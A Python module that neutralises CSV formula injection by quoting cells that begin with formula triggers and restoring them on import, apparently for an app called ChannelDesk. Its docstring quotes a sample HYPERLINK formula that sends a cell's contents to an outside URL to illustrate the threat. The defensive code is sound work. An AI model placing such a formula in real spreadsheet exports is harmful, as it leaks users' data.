"""Cells of a CSV file a spreadsheet opens: no formula ever runs, and values read back whole.

A spreadsheet treats a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula
(``=HYPERLINK("http://…?leak="&A1, "Click")`` sends data away), and some also after a
leading tab or carriage return. Following OWASP's advice on CSV injection, such a text cell
is written with a single quote in front; the quote is shown by the spreadsheet and stripped
again by ChannelDesk's importer, so an export imports back unchanged.

Numbers are the exception: a cell of a numeric column that holds a plain number (``-5``,
``1250000.00``) is written as it is, so that the spreadsheet can still add it up; a plain
number cannot run anything. Any other text in a numeric column is quoted like text.

A text that itself starts with quotes before a trigger (``'=x``) gets one more quote, so
that reading strips exactly what writing added.
"""

from __future__ import annotations

import re

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"
_PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")


def _needs_escape(text: str) -> bool:
    return text.lstrip(ESCAPE).startswith(FORMULA_TRIGGERS)


def safe_cell(text: str, numeric: bool = False) -> str:
    """The text as written to a CSV cell: a formula trigger neutralised by a leading quote."""
    if numeric and _PLAIN_NUMBER.fullmatch(text):
        return text
    return ESCAPE + text if _needs_escape(text) else text


def read_cell(text: str) -> str:
    """A cell as ChannelDesk wrote it, back to the value: the one added quote removed."""
    if text.startswith(ESCAPE) and _needs_escape(text):
        return text[1:]
    return text
